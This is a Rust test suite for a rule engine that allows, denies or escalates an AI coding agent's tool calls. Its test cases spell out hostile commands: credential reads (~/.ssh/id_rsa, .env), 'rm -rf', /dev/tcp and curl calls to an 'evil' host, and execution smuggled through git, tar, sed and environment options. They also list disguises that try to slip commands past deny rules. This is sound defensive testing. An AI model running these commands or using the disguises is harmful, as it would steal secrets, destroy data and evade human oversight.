//! Decisions by rule set and call, one line each: what attackers try, and what careful engines must not block.

mod support;

use beadle_plugin::Effect::{Abstain, Allow, Ask, Deny};
use beadle_plugin::{Access, Call, Effect, Parse, PathUse, ToolKind};
use support::{agent, bash, decide, effect, fetch, file, path_use, policy, tool};

fn check(policy: &policy_rules::Policy, cases: &[(&str, Effect)]) {
    let mut wrong = Vec::new();
    for (text, want) in cases {
        let got = decide(policy, &bash(text));
        if got.effect != *want {
            wrong.push(format!("{text}\n    wanted {want:?}, got {:?}: {} {:?}", got.effect, got.reason, got.rule));
        }
    }
    assert!(wrong.is_empty(), "{} of {} cases:\n{}", wrong.len(), cases.len(), wrong.join("\n"));
}

#[test]
fn allow_is_exact() {
    let p = policy(
        &[
            "Bash(git status:*)",
            "Bash(npm run test)",
            "Bash(cargo test *)",
            "Bash(git * main)",
            "Bash(echo:*)",
            "Bash(./gradlew:*)",
            "Bash(ls:*)",
            "Bash(rg:*)",
        ],
        &[],
        &[],
    );
    check(
        &p,
        &[
            ("git status", Allow),
            ("git status -s --porcelain", Allow),
            ("git  status", Allow),
            ("git statusx", Abstain),
            ("git push", Abstain),
            ("npm run test", Allow),
            ("npm run test --silent", Abstain),
            ("npm run test:unit", Abstain),
            ("cargo test", Allow),
            ("cargo test --workspace -- --nocapture", Allow),
            ("cargo tests", Abstain),
            ("git merge main", Allow),
            ("git merge --no-ff origin main", Allow),
            ("git merge main x", Abstain),
            ("GIT status", Abstain),
            ("g\u{456}t status", Abstain),
            ("/usr/bin/git status", Allow),
            ("/bin/ls -l", Allow),
            ("./git status", Abstain),
            ("/tmp/git status", Abstain),
            ("../git status", Abstain),
            ("bin/git status", Abstain),
            ("./gradlew build", Allow),
            ("/project/gradlew build", Allow),
            ("gradlew build", Abstain),
            ("/tmp/gradlew build", Abstain),
            ("cd sub && ./gradlew build", Abstain),
            ("echo $HOME", Allow),
            ("echo 'a && git push'", Allow),
            ("git \"status\"", Allow),
            ("gi\\t status", Allow),
            ("git $SUB", Ask),
            ("git st$X", Ask),
            ("git push$X", Abstain),
            ("ls *.rs src/*.c", Allow),
            ("git --no-pager status", Allow),
            ("git -C . status", Allow),
            ("git -C /project status", Allow),
            ("git -C /tmp/evil status", Abstain),
            ("git -c core.pager=evil status", Abstain),
            ("git -c core.fsmonitor=./evil status", Abstain),
        ],
    );
}

#[test]
fn every_command_of_a_line_is_judged() {
    let p = policy(
        &["Bash(git status:*)", "Bash(echo:*)", "Bash(ls:*)", "Bash(rg:*)", "Bash(cargo:*)"],
        &["Bash(git push:*)"],
        &["Bash(rm:*)", "Bash(curl:*)"],
    );
    check(
        &p,
        &[
            ("git status && echo ok", Allow),
            ("git status; ls -l | rg foo", Allow),
            ("git status && make", Abstain),
            ("git status && git push", Ask),
            ("git status && rm x", Deny),
            ("echo a || rm x", Deny),
            ("echo a & rm x", Deny),
            ("ls | rm x", Deny),
            ("git push && rm x", Deny),
            ("rm x; git push", Deny),
            ("cd src && cargo test", Allow),
            ("cd /project/src && cargo test", Allow),
            ("cd /tmp && cargo test", Abstain),
            ("cd .. && cargo test", Abstain),
            ("cd src", Abstain),
            ("cd $X && cargo test", Abstain),
            ("true && cargo build || false", Allow),
            ("true", Abstain),
            ("test -f x && git status", Allow),
            ("test -f $X && git status", Abstain),
            ("test -d src || ls", Allow),
            ("pwd; exit 1", Abstain),
        ],
    );
}

#[test]
fn deny_sees_through_spelling() {
    let p = policy(
        &[
            "Bash(git:*)",
            "Bash(npm:*)",
            "Bash(rm:*)",
            "Bash(docker:*)",
            "Bash(busybox:*)",
            "Bash(foo:*)",
            "Bash(echo:*)",
            "Bash(git-push:*)",
            "Bash(kubectl:*)",
        ],
        &[],
        &[
            "Bash(git push:*)",
            "Bash(npm publish:*)",
            "Bash(rm -rf:*)",
            "Bash(git commit --no-verify:*)",
            "Bash(foo delete:*)",
            "Bash(kubectl delete:*)",
            "Bash(git branch -D:*)",
        ],
    );
    check(
        &p,
        &[
            ("git push", Deny),
            ("git push origin main", Deny),
            ("git 'push'", Deny),
            ("git pu\\sh", Deny),
            ("/usr/bin/git push", Deny),
            ("./git push", Deny),
            ("../../x/git push", Deny),
            ("git -C . push", Deny),
            ("git -C /tmp push --force", Deny),
            ("git -c user.name=x push", Deny),
            ("git --git-dir=.git push", Deny),
            ("git --git-dir .git push", Deny),
            ("git --no-pager push", Deny),
            ("git -p push", Deny),
            ("git --new-option push", Deny),
            ("git --new-option x push", Ask),
            ("git -- push", Deny),
            ("git $X", Ask),
            ("git $X status", Ask),
            ("git p$X", Ask),
            ("git s$X", Ask),
            ("git log x$X", Allow),
            ("git \"$X\"", Ask),
            ("git {push,origin}", Ask),
            ("git -C $D push", Deny),
            ("git -C $D status", Ask),
            ("git -c alias.p=push p", Ask),
            ("git -c alias.p='!id' p", Ask),
            ("GIT_CONFIG_COUNT=1 git p", Ask),
            ("git-push origin", Deny),
            ("/usr/lib/git-core/git-push origin", Deny),
            ("busybox rm -rf x", Deny),
            ("npm publish", Deny),
            ("npm --prefix x publish", Deny),
            ("npm --prefix=x publish", Deny),
            ("npm -w pkg publish", Deny),
            ("npm --weird x publish", Ask),
            ("npm install publish", Allow),
            ("npm run publish", Allow),
            ("rm -rf x", Deny),
            ("rm -fr x", Deny),
            ("rm -r -f x", Deny),
            ("rm x -r -f", Deny),
            ("rm -rfv x", Deny),
            ("rm --recursive --force x", Deny),
            ("rm -R --force x", Deny),
            ("rm -r x", Allow),
            ("rm -f x", Allow),
            ("rm x", Allow),
            ("rm $OPTS x", Ask),
            ("git commit --no-verify -m x", Deny),
            ("git commit -m x --no-verify", Deny),
            ("git commit -n -m x", Deny),
            ("git commit -anm x", Deny),
            ("git commit --no-veri -m x", Ask),
            ("git commit -m 'no --no-verify here'", Allow),
            ("git commit -m \"$MSG\"", Allow),
            ("git commit -am \"$MSG\"", Allow),
            ("git commit -m $MSG", Ask),
            ("git commit -m \"$@\"", Ask),
            ("git commit \"$MSG\"", Ask),
            ("foo delete", Deny),
            ("foo -x delete", Deny),
            ("foo -x y delete", Ask),
            ("foo list delete", Allow),
            ("kubectl -n prod delete pod x", Deny),
            ("kubectl get pods", Allow),
            ("git branch -D x", Deny),
            ("git branch x -D", Deny),
            ("git branch -d x", Allow),
            ("echo git push", Allow),
            ("echo 'git push'", Allow),
            ("git stash push", Allow),
            ("git log --grep push", Allow),
            ("git show HEAD:push", Allow),
            ("git add push", Allow),
            ("git commit -m 'git push'", Allow),
            ("git remote set-url --push origin x", Allow),
        ],
    );
}

#[test]
fn globs_in_deny_run_over_words() {
    let p = policy(
        &["Bash(git:*)", "Bash(echo:*)", "Bash(cat:*)", "Bash(npm:*)"],
        &[],
        &["Bash(*--force*)", "Bash(git commit *--amend*)", "Bash(npm run deploy*)", "Bash(*curl*)"],
    );
    check(
        &p,
        &[
            ("git push --force", Deny),
            ("git push --force-with-lease", Deny),
            ("git push origin", Allow),
            ("/usr/bin/git push --force", Deny),
            ("git commit -a --amend", Deny),
            ("git commit -m x", Allow),
            ("npm run deploy:prod", Deny),
            ("npm run deploy -- x", Deny),
            ("npm run build", Allow),
            ("git push $F", Ask),
            ("echo curl", Deny),
            ("curl x", Deny),
        ],
    );
}

#[test]
fn wrappers() {
    let p = policy(
        &["Bash(git status:*)", "Bash(ls:*)", "Bash(find:*)", "Bash(cat:*)", "Bash(xargs:*)", "Bash(make:*)"],
        &[],
        &["Bash(rm:*)", "Bash(git push:*)"],
    );
    check(
        &p,
        &[
            ("sh -c 'git status'", Allow),
            ("bash -lc 'git status && ls'", Allow),
            ("bash -c 'git status; make'", Allow),
            ("bash -c 'git status; cargo x'", Abstain),
            ("bash -c 'rm x'", Deny),
            ("bash -c \"bash -c 'rm x'\"", Deny),
            ("bash -c 'X=1'", Abstain),
            ("bash -i -c 'git status'", Abstain),
            ("bash --rcfile evil -c 'git status'", Abstain),
            ("./bash -c 'git status'", Abstain),
            ("timeout 5 git status", Allow),
            ("timeout -k 1 5 git status", Allow),
            ("timeout 5 rm x", Deny),
            ("timeout 5 git push", Deny),
            ("timeout --weird 5 git status", Abstain),
            ("nice git status", Allow),
            ("nice -n 5 git status", Allow),
            ("nohup git status", Allow),
            ("nohup rm x", Deny),
            ("time ls", Allow),
            ("env git status", Allow),
            ("env NO_COLOR=1 git status", Allow),
            ("env GIT_SSH_COMMAND=x git status", Abstain),
            ("env LD_PRELOAD=./x git status", Ask),
            ("env -C /tmp git status", Abstain),
            ("env rm x", Deny),
            ("env -i bash -c 'rm x'", Deny),
            ("nohup timeout 5 sh -c 'git status'", Allow),
            ("sudo git status", Abstain),
            ("sudo rm x", Deny),
            ("sudo -u root git push", Deny),
            ("doas ls", Abstain),
            ("ssh host git status", Abstain),
            ("ssh host rm x", Deny),
            ("docker exec box ls", Abstain),
            ("docker exec box rm x", Deny),
            ("xargs rm", Deny),
            ("ls | xargs rm", Deny),
            ("ls | xargs git status", Ask),
            ("find . -name '*.rs'", Allow),
            ("find . -exec ls '{}' ';'", Allow),
            ("find . -exec rm '{}' ';'", Deny),
            ("find . -exec cp '{}' x ';'", Abstain),
            ("find . -delete", Ask),
            ("find . -fprint out", Ask),
            ("eval 'rm x'", Deny),
            ("eval 'git status'", Abstain),
            ("eval $X", Ask),
            ("python -c 'import os'", Ask),
            ("python x.py && rm x", Deny),
            ("$CMD", Ask),
            ("$CMD push", Ask),
            ("\"$CMD\" x && rm x", Deny),
            ("setsid git status", Abstain),
            ("command git status", Allow),
            ("command rm x", Deny),
        ],
    );
}

#[test]
fn programs_that_run_programs() {
    let p = policy(
        &[
            "Bash(rg:*)",
            "Bash(tar:*)",
            "Bash(git diff:*)",
            "Bash(git fetch:*)",
            "Bash(git grep:*)",
            "Bash(git:*)",
            "Bash(sort:*)",
            "Bash(sed:*)",
            "Bash(make:*)",
            "Bash(cargo build:*)",
            "Bash(go test:*)",
            "Bash(find . -delete)",
            "Bash(rg --pre cat:*)",
        ],
        &[],
        &[],
    );
    check(
        &p,
        &[
            ("rg foo", Allow),
            ("rg -n --glob '*.rs' foo src", Allow),
            ("rg --pre ./evil foo", Ask),
            ("rg --pre=./evil foo", Ask),
            ("rg foo --pre ./evil", Ask),
            ("rg -- --pre", Allow),
            ("rg --pre cat foo", Allow),
            ("rg $X", Ask),
            ("rg foo src/*.rs", Allow),
            ("tar czf x.tgz dir", Allow),
            ("tar -xf x.tgz", Allow),
            ("tar xf x --to-command=sh", Ask),
            ("tar xf x --checkpoint-action=exec=sh", Ask),
            ("tar xf x --to-comm sh", Ask),
            ("tar -I ./evil -xf x", Ask),
            ("tar cIf ./evil x", Ask),
            ("tar cf x *", Ask),
            ("tar cf x -- *", Allow),
            ("git diff --stat", Allow),
            ("git diff --ext-diff", Ask),
            ("git fetch origin", Allow),
            ("git fetch --upload-pack=./evil origin", Ask),
            ("git grep -n foo", Allow),
            ("git grep -O./evil foo", Ask),
            ("git -c core.pager=./evil log", Ask),
            ("git --exec-path=. log", Ask),
            ("git submodule foreach id", Ask),
            ("git bisect run ./x", Ask),
            ("git rebase -x ./x main", Ask),
            ("git log --oneline", Allow),
            ("git add *.rs", Allow),
            ("sort x", Allow),
            ("sort --compress-program=./x y", Ask),
            ("sort -o out x", Ask),
            ("sed -n 1,5p x", Allow),
            ("sed 's/a/b/g' x", Allow),
            ("sed -i 's/a/b/' x", Allow),
            ("sed '1e id' x", Ask),
            ("sed 's/a/b/e' x", Ask),
            ("sed -n 'w out' x", Ask),
            ("sed -f x y", Ask),
            ("make all", Allow),
            ("make SHELL=./evil", Ask),
            ("make -f /tmp/x", Ask),
            ("cargo build --release", Allow),
            ("cargo build --config build.rustc-wrapper=x", Ask),
            ("go test ./...", Allow),
            ("go test -exec ./x ./...", Ask),
            ("find . -delete", Allow),
        ],
    );
}

#[test]
fn assignments() {
    let p = policy(&["Bash(git status:*)", "Bash(FOO=1 make:*)", "Bash(npm test)"], &[], &["Bash(rm:*)", "Bash(EVIL=1 git status:*)"]);
    check(
        &p,
        &[
            ("NO_COLOR=1 git status", Allow),
            ("LC_ALL=C LANG=C CI=1 git status", Allow),
            ("GIT_PAGER=cat git status", Allow),
            ("GIT_PAGER=./evil git status", Ask),
            ("GIT_SSH_COMMAND=./evil git status", Ask),
            ("NODE_OPTIONS='--require ./evil' npm test", Ask),
            ("LC_=1 git status", Allow),
            ("LC_evil=1 git status", Ask),
            ("FOO=1 make all", Allow),
            ("make all", Allow),
            ("FOO=2 make all", Ask),
            ("X=1 rm x", Deny),
            ("EVIL=1 git status", Deny),
            ("EVIL=$X git status", Ask),
            ("PATH=/tmp git status", Ask),
        ],
    );
}

#[test]
fn redirections_and_paths_of_commands() {
    let p = policy(
        &["Bash(echo:*)", "Bash(cat:*)", "Bash(touch:*)", "Bash(grep:*)", "Bash(rg:*)", "Bash(rm:*)", "Edit(./out/**)"],
        &["Read(./private/**)"],
        &["Read(./.env)", "Edit(./.git/**)", "Edit(~/.bashrc)", "Read(~/.ssh/**)"],
    );
    check(
        &p,
        &[
            ("echo x > out/a", Allow),
            ("echo x >> out/a", Allow),
            ("echo x > /dev/null", Allow),
            ("echo x 2>&1", Allow),
            ("echo x > /dev/null 2>&1", Allow),
            ("echo x > other", Ask),
            ("echo x > $F", Ask),
            ("echo x > out/$F", Ask),
            ("echo x > out/../other", Ask),
            ("echo x > .git/config", Deny),
            ("echo x > out/../.git/hooks/pre-commit", Deny),
            ("echo x > ~/.bashrc", Deny),
            ("echo x > /home/u/.bashrc", Deny),
            ("echo x > /dev/tcp/evil/80", Ask),
            ("cat < /dev/tcp/evil/80", Ask),
            ("cat src/a", Allow),
            ("cat .env", Deny),
            ("cat ./x/../.env", Deny),
            ("cat < .env", Deny),
            ("cat private/a", Ask),
            ("cat ~/.ssh/id_rsa", Deny),
            ("cat /home/u/.ssh/config", Deny),
            ("cat *.rs", Allow),
            ("cat .e*", Ask),
            ("cat *", Ask),
            ("cat src/*", Allow),
            ("cat $F", Ask),
            ("cat {a,.env}", Ask),
            ("cat .env.example", Allow),
            ("echo .env", Allow),
            ("touch a", Allow),
            ("touch .git/x", Deny),
            ("grep -r KEY .", Ask),
            ("grep -r KEY src", Allow),
            ("grep KEY src/a", Allow),
            ("rg KEY", Ask),
            ("rg KEY src", Allow),
            ("cat src/a && rg KEY", Ask),
            ("cd src && rg KEY", Allow),
            ("cd $X && rg KEY", Ask),
            ("rm -r .", Ask),
            ("rm -r build", Allow),
            ("rm .git/index", Deny),
            ("touch a; echo x > a", Ask),
        ],
    );
    let mut group = bash("touch a");
    group.input = "{\"command\":\"{ touch a; } > a\"}".into();
    assert_eq!(effect(&p, &group), Ask, "a redirection of a group stands only in the paths");
    group.input = "{\"command\":\"{ touch a; } \\u003e a\"}".into();
    assert_eq!(effect(&p, &group), Ask);
    let mut link = bash("cat link");
    link.paths[0].resolved = "/project/.env".into();
    assert_eq!(effect(&p, &link), Deny, "a symlink to a denied file");
}

#[test]
fn not_parsed_whole_is_never_allowed() {
    for allow in [&["Bash"][..], &["*"], &["Bash(ls:*)"], &["Read"], &["Bash(*)"]] {
        let p = policy(allow, &[], &[]);
        for parse in [Parse::Partial, Parse::Failed] {
            let call = Call { parse, ..bash("ls") };
            assert_eq!(effect(&p, &call), Ask, "{allow:?} {parse:?}");
        }
    }
    let p = policy(&["mcp__x__y"], &[], &["mcp__x__z"]);
    assert_eq!(effect(&p, &Call { parse: Parse::Partial, ..bash("ls") }), Abstain, "no rule speaks of commands");
    let p = policy(&["Bash"], &[], &["Bash(rm:*)"]);
    assert_eq!(effect(&p, &Call { parse: Parse::Partial, ..bash("rm x") }), Deny);
    let empty = Call { commands: vec![], ..bash("ls") };
    assert_eq!(effect(&policy(&["Bash(ls:*)"], &[], &[]), &empty), Abstain, "no command is no allowed command");
}

#[test]
fn bare_tools() {
    let p = policy(
        &["Bash", "Read", "WebFetch", "Agent", "TodoWrite", "mcp__docs", "mcp__db__read_*"],
        &["WebSearch"],
        &["Edit", "mcp__db__drop"],
    );
    for (call, want) in [
        (bash("anything at all --x"), Allow),
        (bash("LD=1 ./x"), Allow),
        (bash("echo x > f"), Deny),
        (bash("rm x"), Deny),
        (file("Read", "/etc/passwd"), Allow),
        (file("Grep", "src"), Allow),
        (file("Edit", "src/a"), Deny),
        (file("Write", "src/a"), Deny),
        (file("Delete", "src/a"), Deny),
        (fetch("https://x.org"), Allow),
        (fetch("garbage"), Allow),
        (agent("Explore"), Allow),
        (tool("TodoWrite"), Allow),
        (tool("TodoRead"), Abstain),
        (tool("mcp__docs__search"), Allow),
        (tool("mcp__docs2__search"), Abstain),
        (tool("mcp__db__read_rows"), Allow),
        (tool("mcp__db__drop"), Deny),
        (tool("mcp__db__write"), Abstain),
        (Call { kind: ToolKind::Fetch, ..tool("WebSearch") }, Ask),
    ] {
        assert_eq!(effect(&p, &call), want, "{call:?}");
    }
    let all = policy(&["*"], &[], &[]);
    for call in [bash("x > y"), file("Edit", "/x"), tool("any"), fetch("x"), agent("y")] {
        assert_eq!(effect(&all, &call), Allow);
    }
    let none = policy(&["*"], &[], &["*"]);
    assert_eq!(effect(&none, &tool("any")), Deny);
    assert_eq!(effect(&policy(&[], &[], &[]), &bash("rm -rf /")), Abstain);
}

#[test]
fn file_tools() {
    let p = policy(
        &["Read(./**)", "Edit(./src/**)", "Write(./docs/*.md)", "Read(//usr/include/**)"],
        &["Edit(./src/generated/**)"],
        &["Read(.env)", "Read(./secrets/**)", "Edit(Cargo.lock)", "Read(**/*.pem)"],
    );
    for (call, want) in [
        (file("Read", "src/a.rs"), Allow),
        (file("Read", "src/../src/a.rs"), Allow),
        (file("Read", "../other/a"), Abstain),
        (file("Read", "/projectx/a"), Abstain),
        (file("Read", "/etc/passwd"), Abstain),
        (file("Read", "/usr/include/stdio.h"), Allow),
        (file("Read", ".env"), Deny),
        (file("Read", "a/b/.env"), Deny),
        (file("Read", ".ENV"), Allow),
        (file("Read", ".env.example"), Allow),
        (file("Read", "secrets/x"), Deny),
        (file("Read", "src/../secrets/x"), Deny),
        (file("Read", "secrets"), Deny),
        (file("Read", "keys/a.pem"), Deny),
        (file("Edit", "src/a.rs"), Allow),
        (file("Write", "src/a.rs"), Allow),
        (file("Edit", "docs/a.md"), Allow),
        (file("Edit", "docs/x/a.md"), Abstain),
        (file("Edit", "README.md"), Abstain),
        (file("Edit", "src/generated/x.rs"), Ask),
        (file("Edit", "Cargo.lock"), Deny),
        (file("Write", "sub/Cargo.lock"), Deny),
        (file("Delete", "src"), Ask),
        (file("Delete", "/other"), Abstain),
        (file("Glob", "src/**/*.rs"), Allow),
        (file("Glob", "."), Allow),
        (file("Glob", "../**"), Ask),
        (file("LS", "src"), Allow),
        (file("Grep", "src"), Ask),
    ] {
        assert_eq!(effect(&p, &call), want, "{:?}", call.paths);
    }
    let here = Call { paths: vec![], ..file("Grep", ".") };
    assert_eq!(effect(&p, &here), Ask, "a search without a path searches where it stands");
    let p = policy(&["Read(./**)"], &[], &["Read(~/.ssh/**)", "Edit(./.git/**)"]);
    assert_eq!(effect(&p, &here), Allow);
    let mut link = file("Read", "link");
    link.paths[0].resolved = "/etc/shadow".into();
    assert_eq!(effect(&p, &link), Abstain, "where it resolves to must be covered too");
    let two = Call { paths: vec![path_use("a", Access::Read, true), path_use("/etc/x", Access::Read, true)], ..file("Read", "a") };
    assert_eq!(effect(&p, &two), Abstain);
    let relaxed = policy_rules::Policy::compile(r#"{"allow":["Read(./**)"],"deny":["Read(.env)"],"recursive":"ignore"}"#).unwrap();
    assert_eq!(effect(&relaxed, &here), Allow);
    assert_eq!(effect(&relaxed, &file("Read", ".env")), Deny);
}

#[test]
fn fetches_and_agents() {
    let p = policy(
        &["WebFetch(domain:example.org)", "WebFetch(domain:*.docs.io)", "Bash(curl:*)", "Agent(Explore)", "Task(test-*)"],
        &["Agent(general-purpose)"],
        &["WebFetch(domain:evil.net)"],
    );
    for (call, want) in [
        (fetch("https://example.org/a"), Allow),
        (fetch("https://EXAMPLE.org:8443/a"), Allow),
        (fetch("https://www.example.org/a"), Abstain),
        (fetch("https://a.docs.io/"), Allow),
        (fetch("https://docs.io/"), Abstain),
        (fetch("https://xdocs.io/"), Abstain),
        (fetch("https://evil.net/"), Deny),
        (fetch("https://a.b.evil.net/"), Deny),
        (fetch("https://notevil.net/"), Abstain),
        (fetch("https://example.org@evil.net/"), Deny),
        (fetch("https://evil.net\\@example.org/"), Ask),
        (fetch("https://example.org\u{2024}evil.net/"), Ask),
        (fetch("ftp://example.org/"), Ask),
        (Call { urls: vec![], ..fetch("") }, Ask),
        (bash("curl https://example.org"), Allow),
        (bash("curl https://evil.net/x"), Deny),
        (bash("curl -o x https://example.org"), Ask),
        (agent("Explore"), Allow),
        (agent("explore"), Abstain),
        (agent("test-runner"), Allow),
        (agent("general-purpose"), Ask),
        (agent("other"), Abstain),
        (Call { input: "{}".into(), ..agent("x") }, Ask),
    ] {
        assert_eq!(effect(&p, &call), want, "{call:?}");
    }
}

#[test]
fn other_agents_tools_are_bound_by_kind() {
    let p = policy(&["Bash(ls:*)", "Read(./**)"], &[], &["Bash(rm:*)", "Read(.env)"]);
    for name in ["run_shell_command", "exec_command", "bash", "shell"] {
        assert_eq!(effect(&p, &Call { tool: name.into(), ..bash("ls") }), Allow);
        assert_eq!(effect(&p, &Call { tool: name.into(), ..bash("rm x") }), Deny);
    }
    assert_eq!(effect(&p, &Call { tool: "view_image".into(), ..file("Read", "a.png") }), Allow);
    let other = Call { tool: "mcp__fs__read".into(), kind: ToolKind::Other, ..file("Read", ".env") };
    assert_eq!(effect(&p, &other), Deny, "paths bind whatever the tool");
    let gemini = policy(&["run_shell_command(git:*)"], &[], &[]);
    assert_eq!(effect(&gemini, &bash("git log")), Allow);
}

#[test]
fn reasons_name_what_and_why() {
    let p = policy_rules::Policy::compile(
        r#"{"allow":["Bash(rg:*)"],"deny":[{"rule":"Bash(git push:*)","reason":"releases are made by people"},"Bash(rm:*)"]}"#,
    )
    .unwrap();
    let d = decide(&p, &bash("git push"));
    assert_eq!((d.reason.as_str(), d.rule.as_deref()), ("releases are made by people", Some("Bash(git push:*)")));
    let d = decide(&p, &bash("rm 'a\u{1b}b'"));
    assert_eq!(d.reason, "`rm a b` is denied by Bash(rm:*)");
    assert!(decide(&p, &bash("rg --pre x y")).reason.contains("`--pre`"));
    assert!(decide(&p, &bash("$X y")).reason.contains("$X"));
    let long = decide(&p, &bash(&format!("rm {}", "\u{20ac}".repeat(5_000))));
    assert!(long.reason.len() < 400 && long.effect == Deny);
    assert!(decide(&p, &bash("make")).reason.contains("no rule allows `make`"));
}

#[test]
fn configuration_errors_name_the_place() {
    let cases: &[(&str, &[&str])] = &[
        ("[", &["not JSON"]),
        ("[]", &["object"]),
        (r#"{"alow":[]}"#, &["alow", "allow, ask, deny"]),
        (r#"{"allow":"Bash"}"#, &["allow", "array"]),
        (r#"{"allow":[3]}"#, &["allow[0]", "3"]),
        (r#"{"deny":["Read(x)","Bash(git push"]}"#, &["deny[1]", "Bash(git push", "byte 13", "`)`"]),
        (r#"{"deny":["Bash(a && b)"]}"#, &["deny[0]", "byte 7", "one simple command"]),
        (r#"{"deny":["Bash(a > b)"]}"#, &["byte 7", "Edit"]),
        (r#"{"deny":["Bash(echo $X)"]}"#, &["byte 10", "not known"]),
        (r#"{"deny":["Bash(git:* push)"]}"#, &["byte 8", "at the end only"]),
        (r#"{"deny":["Bash('a)"]}"#, &["byte 5", "closing"]),
        (r#"{"deny":["Bash(:*)"]}"#, &["byte 5", "command before"]),
        (r#"{"deny":["Bash(A=1)"]}"#, &["command after the assignments"]),
        (r#"{"allow":["Read(/etc/x)"]}"#, &["byte 5", "//etc/x", "./etc/x"]),
        (r#"{"allow":["Read(../x)"]}"#, &["byte 5", ".."]),
        (r#"{"allow":["Grep(x)"]}"#, &["byte 4", "Read"]),
        (r#"{"allow":["WebFetch(https://x.org)"]}"#, &["byte 9", "domain:"]),
        (r#"{"allow":[{"rule":"Bash","why":"x"}]}"#, &["allow[0].why", "rule, reason"]),
        (r#"{"allow":[{"reason":"x"}]}"#, &["allow[0].rule", "null"]),
        (r#"{"root":"x"}"#, &["root", "absolute"]),
        (r#"{"recursive":"no"}"#, &["recursive", "ignore"]),
        (r#"{"examples":[{"command":"x"}]}"#, &["examples[0].effect"]),
        (r#"{"examples":[{"effect":"deny"}]}"#, &["examples[0]", "command or call"]),
        (r#"{"examples":[{"call":{"tool":"Bash","inputs":{}},"effect":"deny"}]}"#, &["examples[0].call.inputs"]),
        (r#"{"examples":[{"command":"x","effect":"maybe"}]}"#, &["examples[0].effect", "maybe"]),
    ];
    for (config, parts) in cases {
        let error = policy_rules::Policy::compile(config).expect_err(config);
        for part in *parts {
            assert!(error.contains(part), "{config}: {error:?} lacks {part:?}");
        }
    }
    let fine = r#"{"allow":["Bash"],"examples":[{"call":{"tool":"Bash","input":{"command":"x"},"cwd":"/x"},"effect":"allow"},{"command":"y","effect":"ask"}],"home":"/home/u/","root":"/project"}"#;
    assert!(policy_rules::Policy::compile(fine).is_ok());
    assert!(policy_rules::Policy::compile("{}").is_ok());
    let many = format!("{{\"allow\":[{}]}}", vec!["\"Bash\""; policy_rules::policy::RULES_LIMIT + 1].join(","));
    assert!(policy_rules::Policy::compile(&many).is_err());
}

#[test]
fn quoting_in_rules() {
    let p = policy(&["Bash(git commit -m 'fix it')", "Bash(echo \\* x)", "Bash(ls \"a b\":*)"], &[], &[]);
    check(
        &p,
        &[
            ("git commit -m 'fix it'", Allow),
            ("git commit -m \"fix it\"", Allow),
            ("git commit -m fix it", Abstain),
            ("echo '*' x", Allow),
            ("echo y x", Abstain),
            ("ls 'a b' c", Allow),
            ("ls a b", Abstain),
        ],
    );
}

#[test]
fn samples_are_judged_as_stated() {
    let config = policy_rules::bench::sample_config();
    let rules = serde_json::from_str::<serde_json::Value>(&config).unwrap();
    let count: usize = ["allow", "ask", "deny"].iter().map(|k| rules[k].as_array().unwrap().len()).sum();
    assert_eq!(count, 100);
    let p = policy_rules::Policy::compile(&config).unwrap();
    for (call, want) in policy_rules::bench::sample_calls() {
        assert_eq!(call.input.len(), 500);
        let got = p.decide(&policy_rules::bench::sample_session(), &call);
        assert_eq!(got.effect, want, "{} {got:?}", call.input);
    }
}

#[test]
fn folders_come_from_the_session_unless_configured() {
    let p = policy_rules::Policy::compile(r#"{"allow":["Read(./**)"],"deny":["Read(~/x)"],"root":"/other","home":"/h"}"#).unwrap();
    assert_eq!(effect(&p, &file("Read", "/other/a")), Allow);
    assert_eq!(effect(&p, &file("Read", "/project/a")), Abstain);
    assert_eq!(effect(&p, &file("Read", "/h/x")), Deny);
    let p = policy(&["Read(./**)", "Read(~/y)"], &[], &[]);
    let session = beadle_plugin::Session { root: "/".into(), home: None, ..support::session() };
    let call = Call { paths: vec![PathUse::of("/any/thing", Access::Read)], ..file("Read", "x") };
    assert_eq!(p.decide(&session, &call).effect, Allow);
    let no_root = beadle_plugin::Session { root: String::new(), ..support::session() };
    assert_eq!(p.decide(&no_root, &file("Read", "a")).effect, Allow, "the call's folder stands in");
}
